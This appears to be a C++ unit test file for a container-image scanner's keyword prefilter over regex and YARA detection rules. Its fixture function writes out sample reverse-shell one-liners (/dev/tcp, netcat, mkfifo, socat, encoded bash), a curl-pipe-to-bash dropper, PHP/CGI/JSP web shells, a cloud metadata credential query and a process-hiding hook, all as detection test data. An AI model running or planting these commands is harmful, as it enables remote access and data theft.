// The keyword prefilter of the content rules: literals derived from regular expressions and
// from YARA rules, and the proof that it drops no match — the secret rules' keywords cover
// their expressions, every bundled YARA rule has a gate, and gated scanning finds what a full
// scan finds.

#include "archive/filekind.h"
#include "rules/contentrules.h"
#include "rules/keywordset.h"
#include "rules/regexfactors.h"
#include "rules/secretrules.h"
#include "rules/yaragate.h"
#include "rules/yararules.h"

#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

#include <algorithm>

using namespace dockscope;

namespace {

// "a|b" for a set of literals, "-" for none; line feeds and NULs shown as \n and \0.
QString shown(const std::optional<RegexFactors::Literals> &literals)
{
    if (!literals) {
        return QStringLiteral("-");
    }
    QStringList parts;
    for (const std::string &s : *literals) {
        QString p = QString::fromStdString(s);
        p.replace(QChar(u'\n'), QStringLiteral("\\n")).replace(QChar(u'\0'), QStringLiteral("\\0"));
        parts << p;
    }
    return parts.join(u'|');
}

QByteArray resource(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

QByteArray elf(const QByteArray &body)
{
    QByteArray d("\x7f" "ELF\x02\x01\x01", 7);
    d.append(QByteArray(57, '\0'));
    return d + body;
}

struct Sample
{
    const char *rule;
    const char *path;
    QByteArray bytes;
};

// One file for each bundled rule, each matching it.
std::vector<Sample> samples()
{
    return {
        {"DS_RevShell_DevTcp", "tmp/r.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"},
        {"DS_RevShell_Netcat_Exec", "tmp/n.sh", "nc 10.0.0.1 4444 -e /bin/sh\n"},
        {"DS_RevShell_Fifo_Relay", "tmp/f.sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n"},
        {"DS_RevShell_Scripting", "tmp/p.txt", "python3 -c 'import socket,subprocess,os;s=socket.socket()'\n"},
        {"DS_RevShell_Socat_Awk_Openssl", "tmp/s.txt", "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty\n"},
        {"DS_RevShell_Encoded", "tmp/e.txt", "echo L2Rldi90Y3AvMTAuMC4wLjEvNDQ0NA== | base64 -d | bash\n"},
        {"DS_Miner_Config", "tmp/.x/config.json", "{\"url\": \"stratum+tcp://pool.example:3333\"}\n"},
        {"DS_Miner_Binary", "tmp/.x/kworker", elf("XMRig 6.0 cryptonight mining.subscribe")},
        {"DS_Webshell_PHP", "var/www/html/s.php", "<?php system($_GET['cmd']); ?>\n"},
        {"DS_Webshell_CGI_Shell", "usr/lib/cgi-bin/q.sh", "#!/bin/sh\necho Content-type: text/plain\necho\nsh -c \"$QUERY_STRING\"\n"},
        {"DS_Webshell_JSP_ASP", "srv/app/c.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n"},
        {"DS_Escape_Tooling", "tmp/esc.sh", "echo c > /proc/sysrq-trigger\n"},
        {"DS_Dropper", "tmp/d.txt", "curl -s http://x.example/a.sh | bash\n"},
        {"DS_Shell_History", "root/.bash_history", "whoami\nuname -a\n"},
        {"DS_Credential_Harvest", "tmp/h.txt", "curl http://169.254.169.254/latest/meta-data/\n"},
        {"DS_Process_Hider", "tmp/h.c", "struct dirent *readdir(DIR *d) { void *f = dlsym(RTLD_NEXT, \"readdir\"); }\n"},
        {"DS_Packed_ELF", "usr/bin/p", elf(QByteArray(40, 'x') + "UPX!" + QByteArray(40, 'y'))},
    };
}

QStringList rulesFound(const ContentRules &rules, const Sample &s)
{
    LayerEntry entry;
    entry.path = s.path;
    ContentResults results;
    rules.inspect(0, entry, s.bytes.constData(), std::size_t(s.bytes.size()), true, LayerRole::Container, results);
    QStringList out;
    for (const ContentHit &h : results.hits) {
        if (h.rule != u"FC-07") {
            out << h.detail;
        }
    }
    out.sort();
    return out;
}

QStringList rulesFound(const YaraRules &yara, const Sample &s)
{
    YaraExternals x;
    x.filepath = s.path;
    x.filename = QFileInfo(QString::fromLatin1(s.path)).fileName().toStdString();
    x.filetype = fileKindName(classifyContent(s.bytes.constData(), std::size_t(s.bytes.size()), nullptr));
    QStringList out;
    for (const YaraMatch &m : yara.scan(s.bytes.constData(), std::size_t(s.bytes.size()), x)) {
        out << m.rule;
    }
    out.sort();
    return out;
}

const char *const BundledYara = ":/rules/yara/dockscope-content.yar";

} // namespace

class TestPrefilter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void regexLiterals_data()
    {
        QTest::addColumn<QString>("pattern");
        QTest::addColumn<QString>("literals");
        QTest::newRow("literal") << "abc" << "abc";
        QTest::newRow("case folded") << "(?i)AbC" << "abc";
        QTest::newRow("alternatives") << "a|bc" << "a|bc";
        QTest::newRow("optional middle") << "ab*c" << "a";
        QTest::newRow("group product") << "/dev/(tcp|udp)/[a-z]+" << "/dev/tcp/|/dev/udp/";
        QTest::newRow("optional alone") << "x?" << "-";
        QTest::newRow("anything") << ".*" << "-";
        QTest::newRow("small class") << "[abC]" << "a|b|c";
        QTest::newRow("negated class") << "[^a]" << "-";
        QTest::newRow("large class") << "[a-z]+" << "-";
        QTest::newRow("digit escape") << "\\d+" << "-";
        QTest::newRow("look-ahead ignored") << "foo(?=bar)" << "foo";
        QTest::newRow("look-behind ignored") << "(?<![A-Z])key" << "key";
        QTest::newRow("named group") << "(?<secret>ghp_[0-9a-zA-Z]{36})" << "ghp_";
        QTest::newRow("punctuation preferred") << "\\bn(et)?c(at)?(\\.[a-z]+)? [^\\n]{0,80}-[ec]" << "-c|-e";
        QTest::newRow("exact repeat") << "a{3}" << "aaa";
        QTest::newRow("open repeat") << "(ab){2,}" << "ab";
        QTest::newRow("zero repeat") << "(ab){0,3}c" << "c";
        QTest::newRow("brace literal") << "a{b" << "a{b";
        QTest::newRow("branch requirement") << "(a|b.*c)" << "a|b";
        QTest::newRow("branch without") << "(a|.*)" << "-";
        QTest::newRow("empty branch") << "abc|" << "-";
        QTest::newRow("non-ASCII") << "\xc3\xa9t\xc3\xa9" << "t";
        QTest::newRow("hex escape") << "\\x41BC" << "abc";
        QTest::newRow("escaped slash") << "a\\/b\\.c" << "a/b.c";
        QTest::newRow("start anchor") << "(?m)^/x" << "\\n/x";
        QTest::newRow("end anchor") << "ab$" << "ab";
        QTest::newRow("implied literal dropped") << "ab|xaby" << "ab";
        QTest::newRow("unbalanced") << "(ab" << "-";
        QTest::newRow("stray paren") << "ab)" << "-";
        QTest::newRow("extended mode") << "(?x)a b" << "-";
        QTest::newRow("recursion") << "a(?R)?b" << "-";
        QTest::newRow("deep nesting") << QString(5000, u'(') + QStringLiteral("a") + QString(5000, u')') << "-";
        QTest::newRow("atomic group") << "(?>ab)c" << "-";
        QTest::newRow("back-reference") << "(a)\\1" << "a";
        QTest::newRow("quoting") << "\\Qa.b\\E" << "-";
        QTest::newRow("inline flag group") << "(?i:Foo)bar" << "foobar";
        // Escapes PCRE and libyara read differently count as any character (or are not
        // understood at all), never as what one of them means.
        QTest::newRow("escape e") << "foo\\ebar" << "foo";
        QTest::newRow("escape A") << "foo\\Abar" << "foo";
        QTest::newRow("backspace in class") << "xyz[\\b]uvw" << "xyz";
        QTest::newRow("escape c") << "zq\\c|abcdef" << "-";
        QTest::newRow("escape r") << "\\r\\nab" << "\\nab";
        QTest::newRow("empty count") << "xab{,}cdef" << "cdef";
    }

    void regexLiterals()
    {
        QFETCH(QString, pattern);
        QFETCH(QString, literals);
        QCOMPARE(shown(RegexFactors::required(pattern.toStdString())), literals);
    }

    void keywordAtTextStart()
    {
        const KeywordSet set({"\n/"});
        QCOMPARE(set.find("/etc", 4), std::vector<bool>{true});
        QCOMPARE(set.find("a/etc", 5), std::vector<bool>{false});
        QCOMPARE(set.find("a\n/etc", 6), std::vector<bool>{true});
    }

    void yaraGate_data()
    {
        QTest::addColumn<QByteArray>("source");
        QTest::addColumn<QString>("literals");
        auto hello = [](const char *condition) -> QByteArray {
            return QByteArray("rule r { strings: $a = \"Hello\" condition: ") + condition + " }";
        };
        QTest::newRow("string") << hello("$a") << "hello";
        QTest::newRow("and other") << hello("$a and filesize < 10") << "hello";
        QTest::newRow("or other") << hello("$a or filesize < 10") << "-";
        QTest::newRow("not") << hello("not $a") << "-";
        QTest::newRow("count") << hello("#a > 2") << "-";
        QTest::newRow("count zero") << hello("#a == 0") << "-";
        QTest::newRow("at") << hello("$a at 0") << "hello";
        QTest::newRow("in range") << hello("$a in (0..100) and filesize < 1KB") << "hello";
        QTest::newRow("header and") << hello("uint32(0) == 0x464c457f and $a") << "hello";
        QTest::newRow("value in parentheses") << hello("(filesize + 1) > 2 and $a") << "hello";
        QTest::newRow("loop") << hello("for any of ($a) : ( $ at 0 )") << "-";
        QTest::newRow("true") << hello("true") << "-";
        auto two = [](const char *condition) -> QByteArray {
            return QByteArray("rule r { strings: $a1 = \"one\" $a2 = \"two\" $b = \"three\" condition: ") + condition + " }";
        };
        QTest::newRow("any of them") << two("any of them") << "one|three|two";
        QTest::newRow("n of set") << two("2 of ($a1, $b)") << "one|three";
        QTest::newRow("wildcard") << two("any of ($a*)") << "one|two";
        QTest::newRow("percent") << two("50% of them") << "one|three|two";
        QTest::newRow("none of") << two("none of them") << "-";
        QTest::newRow("zero of") << two("0 of them") << "-";
        QTest::newRow("both needed") << two("$a1 and $b") << "three";
        QTest::newRow("either") << two("$a1 or ($a2 and filesize < 5)") << "one|two";
        QTest::newRow("hex run") << QByteArray("rule r { strings: $h = { 4D 5A ?? ?? 50 45 00 00 } condition: $h }") << "pe\\0\\0";
        QTest::newRow("hex alternative") << QByteArray("rule r { strings: $h = { 4D 5A ( 90 | 91 ) 00 } condition: $h }") << "mz";
        QTest::newRow("hex without spaces") << QByteArray("rule r { strings: $h = {4D5A4?5A5A} condition: $h }") << "mz";
        QTest::newRow("hex negated and jump") << QByteArray("rule r { strings: $h = { 41 ~42 [2-4] 43 44 45 } condition: $h }") << "cde";
        QTest::newRow("hex not understood") << QByteArray("rule r { strings: $h = { 4D 5A // x\n } condition: $h }") << "-";
        QTest::newRow("wide start anchor") << QByteArray("rule r { strings: $a = /^abc/ wide condition: $a }") << "a\\0b\\0c";
        QTest::newRow("zero count written otherwise") << two("00 of them") << "-";
        QTest::newRow("zero count in hex") << two("0x0 of them") << "-";
        QTest::newRow("regex as a module argument")
            << QByteArray("import \"cuckoo\" rule a { strings: $a = \"needle1\" condition: $a and "
                          "cuckoo.network.http_request(/https?:\\/\\//) } rule r { strings: $b = \"needle2\" condition: $b }")
            << "needle2";
        QTest::newRow("wide") << QByteArray("rule r { strings: $w = \"ab\" wide condition: $w }") << "a\\0b";
        QTest::newRow("wide and ascii") << QByteArray("rule r { strings: $w = \"ab\" wide ascii condition: $w }") << "a\\0b|ab";
        QTest::newRow("xor") << QByteArray("rule r { strings: $x = \"secret\" xor condition: $x }") << "-";
        QTest::newRow("base64") << QByteArray("rule r { strings: $x = \"secret\" base64 condition: $x }") << "-";
        QTest::newRow("regex") << QByteArray("rule r { strings: $r = /ab\\/c[0-9]+/ nocase condition: $r }") << "ab/c";
        QTest::newRow("regex with brace") << QByteArray("rule r { strings: $r = /x{2}}/ condition: $r } // }") << "xx}";
        QTest::newRow("anonymous") << QByteArray("rule r { strings: $ = \"one\" $ = \"two\" condition: any of them }") << "one|two";
        QTest::newRow("rule reference")
            << QByteArray("rule a { strings: $x = \"abc\" condition: $x } rule r { condition: a and filesize > 0 }") << "abc";
        QTest::newRow("no strings") << QByteArray("rule r { condition: filesize < 10 }") << "-";
        QTest::newRow("module")
            << QByteArray("import \"pe\" rule r { strings: $a = \"x\" condition: pe.number_of_sections > 1 or $a }") << "-";
        QTest::newRow("meta and comments")
            << QByteArray("/* } */ private rule r : tag { meta: id = \"FC-01\" n = 3 strings: $a = \"a}b\" // }\n condition: $a }")
            << "a}b";
    }

    void yaraGate()
    {
        QFETCH(QByteArray, source);
        QFETCH(QString, literals);
        const YaraGate gate = YaraGate::of({source});
        QVERIFY(gate.rules().count("r"));
        QCOMPARE(shown(gate.rules().at("r")), literals);
        QCOMPARE(gate.complete(), literals != QStringLiteral("-"));
    }

    void yaraGateIncompleteWhenNotUnderstood()
    {
        const YaraGate truncated = YaraGate::of({"rule r { strings: $a = \"x\" condition: $a"});
        QVERIFY(!truncated.complete());
        const YaraGate deep = YaraGate::of({"rule r { strings: $a = \"x\" condition: " + QByteArray(5000, '(') + "$a"
                                            + QByteArray(5000, ')') + " }"});
        QVERIFY(!deep.complete()); // too deep to follow: taken as needing nothing
        YaraGate swallowed = YaraGate::of({"rule r { strings: $a = \"x\" condition: $a }"});
        QVERIFY(swallowed.complete());
        swallowed.expect({"r", "hidden"}); // libyara compiled a rule the reader did not see
        QVERIFY(!swallowed.complete());
        const YaraGate included = YaraGate::of({"include \"more.yar\" rule r { strings: $a = \"x\" condition: $a }"});
        QVERIFY(!included.complete()); // the included file's rules are not read
        const YaraGate twoFiles = YaraGate::of({"rule r { strings: $a = \"x\" condition: $a }",
                                                "rule r { condition: filesize > 0 }"});
        QVERIFY(!twoFiles.complete()); // the same name in another file is another rule
        QCOMPARE(twoFiles.ungated(), QStringList{QStringLiteral("r")});
    }

    // Every bundled rule needs fixed text, and none of it is so short that it is in every file.
    void bundledYaraRulesAreGated()
    {
        const QByteArray text = resource(QString::fromLatin1(BundledYara));
        QVERIFY(!text.isEmpty());
        const YaraGate gate = YaraGate::of({text});
        QCOMPARE(gate.ungated(), QStringList());
        QVERIFY(gate.complete());
        QCOMPARE(gate.rules().size(), samples().size());
        for (const auto &[name, literals] : gate.rules()) {
            QVERIFY2(RegexFactors::selectivity(*literals) >= 3,
                     qPrintable(QStringLiteral("%1: %2").arg(QString::fromStdString(name), shown(literals))));
        }
    }

    // A secret rule's keywords are a sound prefilter: every match of its expression holds one.
    void secretKeywordsCoverTheirExpressions()
    {
        const QByteArray bytes = resource(QStringLiteral(":/rules/secrets.json"));
        const QJsonDocument doc = QJsonDocument::fromJson(bytes);
        QVERIFY(doc.isObject());
        int checked = 0;
        for (const QJsonValue &rule : doc.object().value(u"rules").toArray()) {
            const QString id = rule[u"id"].toString();
            QStringList keywords;
            for (const QJsonValue &k : rule[u"keywords"].toArray()) {
                keywords << k.toString().toLower();
            }
            if (keywords.isEmpty()) {
                continue; // tried on every text
            }
            std::vector<std::string> words;
            for (const QString &k : keywords) {
                words.push_back(k.toStdString());
            }
            const std::string regex = rule[u"regex"].toString().toStdString();
            QVERIFY2(RegexFactors::needsOneOf(regex, words),
                     qPrintable(QStringLiteral("%1: a match may hold none of its keywords %2 (it needs one of %3)")
                                    .arg(id, keywords.join(u", "), shown(RegexFactors::required(regex)))));
            ++checked;
        }
        QVERIFY(checked >= 10);
    }

    // Gated scanning finds, for every bundled rule, what a scan of the whole file finds.
    void gatedScanFindsWhatAFullScanFinds()
    {
        QStringList errors;
        const auto yara = YaraRules::compile({{QStringLiteral("dockscope-content.yar"), resource(QString::fromLatin1(BundledYara))}},
                                             &errors);
        QCOMPARE(errors, QStringList());
        QVERIFY(yara->gate().complete());
        const ContentRules rules(yara, nullptr, nullptr, qint64(1) << 20);
        for (const Sample &s : samples()) {
            const QStringList full = rulesFound(*yara, s);
            QVERIFY2(full.contains(QString::fromLatin1(s.rule)), s.rule);
            QCOMPARE(rulesFound(rules, s), full);
        }
        // A file without any of the literals: nothing, and no scan needed to know it.
        const Sample plain{"", "etc/motd", "Welcome to the server.\n"};
        QCOMPARE(rulesFound(rules, plain), QStringList());
        QCOMPARE(rulesFound(*yara, plain), QStringList());
    }

    // An examiner's rule that needs no text still runs on every file, beside the gated set.
    void examinerRulesWithoutTextRunEverywhere()
    {
        QStringList errors;
        const auto bundled = YaraRules::compile({{QStringLiteral("dockscope-content.yar"), resource(QString::fromLatin1(BundledYara))}},
                                                &errors);
        const auto examiner = YaraRules::compile({{QStringLiteral("mine.yar"),
                                                   "rule Tiny_File { meta: id = \"FC-05\" condition: filesize < 64 }"}},
                                                 &errors);
        QCOMPARE(errors, QStringList());
        QVERIFY(!examiner->gate().complete());
        const ContentRules rules(bundled, examiner, nullptr, qint64(1) << 20);
        const Sample binary{"", "usr/lib/blob.bin", QByteArray("\x00\x01\x02\x03 nothing to see", 20)};
        QCOMPARE(rulesFound(rules, binary), QStringList{QStringLiteral("Tiny_File")});
        // The bundled rules keep their gate and still find their own.
        const Sample shell = samples().front();
        QCOMPARE(rulesFound(rules, shell), (QStringList{QStringLiteral("DS_RevShell_DevTcp"), QStringLiteral("Tiny_File")}));
    }

    // FC-10's disguised ELF is code: it needs no text, so it is not a YARA rule.
    void elfUnderAnotherNameIsFound()
    {
        const ContentRules rules(nullptr, nullptr, nullptr, qint64(1) << 20);
        const Sample logo{"", "srv/www/logo.png", elf("data")};
        QCOMPARE(rulesFound(rules, logo), QStringList{QStringLiteral("elf-under-other-name")});
        const Sample program{"", "usr/bin/tool", elf("data")};
        QCOMPARE(rulesFound(rules, program), QStringList());
    }
};

QTEST_GUILESS_MAIN(TestPrefilter)
#include "tst_prefilter.moc"
